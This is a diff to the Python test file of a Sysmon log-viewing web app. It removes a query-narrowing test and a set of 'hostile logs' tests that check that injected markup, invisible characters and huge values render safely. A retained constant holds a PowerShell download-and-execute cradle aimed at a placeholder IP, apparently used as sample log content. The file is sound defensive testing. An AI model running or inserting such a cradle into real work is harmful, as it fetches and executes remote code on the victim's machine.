@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import base64
 from collections.abc import Callable
-from dataclasses import replace
 from datetime import datetime, timedelta
 from urllib.parse import parse_qs, urlsplit
 
@@ -16,10 +15,8 @@ from app.sysmon.evaluate import holds
 from app.sysmon.events import Event
 from app.sysmon.language import parse
 from app.web import links
-from app.web.event_fields import narrowed
 from tests import builders
-from tests.builders import NOON, event, process_access, process_create
-from tests.web import hostile
+from tests.builders import NOON, process_access, process_create
 from tests.web.conftest import Add, Get, text_of
 
 SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"
@@ -153,12 +150,6 @@ def test_each_value_narrows_a_search_to_it_and_without_it(add: Add, get: Get) ->
         assert holds(parse(only), made)
         assert not holds(parse(without), made)
     assert not holds(parse(narrowing(page, "Image")[0]), process_create())
-
-
-def test_a_term_is_added_to_the_query_as_it_was_typed() -> None:
-    assert narrowed("", "Image:a") == "Image:a"
-    assert narrowed("Image:b", "not User:c") == "Image:b and not User:c"
-    assert narrowed("Image:b or  Image:d", "User:c") == "(Image:b or  Image:d) and User:c"
 
 
 def test_links_go_on_to_graph_tables_parent_and_equal_values(add: Add, get: Get) -> None:
@@ -320,90 +311,3 @@ def test_a_store_that_is_down_says_to_come_back(down: FlaskClient) -> None:
         answer = down.get(links.event("ws-01~1~20190108T120000.000~4711", twin))
         assert answer.status_code == 503
         assert answer.headers["Retry-After"]
-
-
-# Hostile logs -------------------------------------------------------------------------------------------
-
-
-def hostile_event(event_id: int, text: str) -> Event:
-    """Return an event whose every text is ``text``."""
-    texts: dict[str, builders.Said] = dict.fromkeys(
-        (
-            *("rule_name", "image", "command_line", "parent_image", "parent_command_line", "user"),
-            *("current_directory", "hashes", "sha256", "md5", "target_filename", "target_object"),
-            *("details", "image_loaded", "target_image", "call_trace", "query_name", "query_results"),
-            *("pipe_name", "destination_hostname", "destination_ip", "event_type", "contents", "channel"),
-        ),
-        text,
-    )
-    guids = {"process_guid": builders.new_guid(), "parent_process_guid": builders.new_guid()}
-    return event(event_id, computer=text, other={text: text, "x": text}, **texts, **guids)
-
-
-@pytest.mark.parametrize("text", [text for text in hostile.TEXTS if text != hostile.LONG])
-def test_hostile_texts_are_texts_and_visible(add: Add, client: FlaskClient, text: str) -> None:
-    hidden = set("\x00\x07\x1b\x7f\x9b\u202e\u200b\u2066")
-    made = [hostile_event(event_id, text) for event_id in (1, 3, 7, 8, 10, 11, 13, 22, 77)]
-    add(*made)
-    for one in made:
-        answer = client.get(links.event(one.key))
-        assert answer.status_code == 200
-        assert len(answer.data) < hostile.MOST_BYTES
-        page = html.fromstring(answer.data)
-        assert not found_by(page, "//main//script | //main//img | //main//*[@onerror or @style]")
-        assert not hidden & set(answer.get_data(as_text=True))
-        assert client.get(links.event(one.key, ".json")).get_json()["event"] == one.named()
-
-
-@pytest.mark.parametrize("text", [hostile.LONG, hostile.HUGE, "\x00" * 1_000_000, '\u202e"<' * 300_000])
-def test_huge_values_stay_within_a_page_and_say_how_much_is_left_out(
-    add: Add, client: FlaskClient, text: str
-) -> None:
-    made = replace(hostile_event(1, text), computer="ws-01")
-    add(made)
-    answer = client.get(links.event(made.key))
-    assert answer.status_code == 200
-    assert len(answer.data) < hostile.MOST_BYTES
-    page = html.fromstring(answer.data)
-    if len(text) > 100_000:
-        said = text_of(page, "//section[@id='command-line']//a[contains(., 'characters')]")
-        left_out = int(said.split()[0].strip("+").replace(",", ""))
-        assert 0 < left_out < len(text)
-        if text == hostile.HUGE:
-            shown = found_by(page, "//section[@id='command-line']//*[@class='all']")
-            assert left_out + sum(len(one.text or "") for one in shown) == len(text)
-
-
-def test_the_twin_has_all_of_a_huge_value(add: Add, client: FlaskClient) -> None:
-    made = process_create(command_line=hostile.HUGE)
-    add(made)
-    assert client.get(links.event(made.key, ".json")).get_json()["event"]["CommandLine"] == hostile.HUGE
-
-
-def test_thousands_of_fields_of_a_log_are_counted_not_shown(add: Add, client: FlaskClient) -> None:
-    made = process_create(other={f"Field{number}": "x" * 50 for number in range(5_000)})
-    add(made)
-    answer = client.get(links.event(made.key))
-    assert len(answer.data) < hostile.MOST_BYTES
-    page = html.fromstring(answer.data)
-    foot = text_of(page, "//p[contains(., 'more fields are not shown')]")
-    rows = [name for name in fields(page) if name.startswith("Field")]
-    assert f"{5_000 - len(rows):,} more fields are not shown." in foot
-    assert len(rows) > 50
-
-
-def test_a_name_too_long_for_an_address_still_has_its_page(add: Add, client: FlaskClient) -> None:
-    made = process_create(computer="c" * 30_000)
-    add(made)
-    answer = client.get(links.event(made.key))
-    assert answer.status_code == 200
-    assert len(answer.data) < hostile.MOST_BYTES
-    assert not html.fromstring(answer.data).xpath("//nav[@class='links']/a[contains(@href, 'cccc')]")
-
-
-def test_a_command_line_of_the_longest_kind_is_shown_whole(add: Add, get: Get) -> None:
-    line = "powershell " + "-x '1' " * 4_600
-    made = process_create(command_line=line)
-    add(made)
-    page = get(links.event(made.key))
-    assert page.xpath("string(//section[@id='command-line']//*[@class='all'])") == line
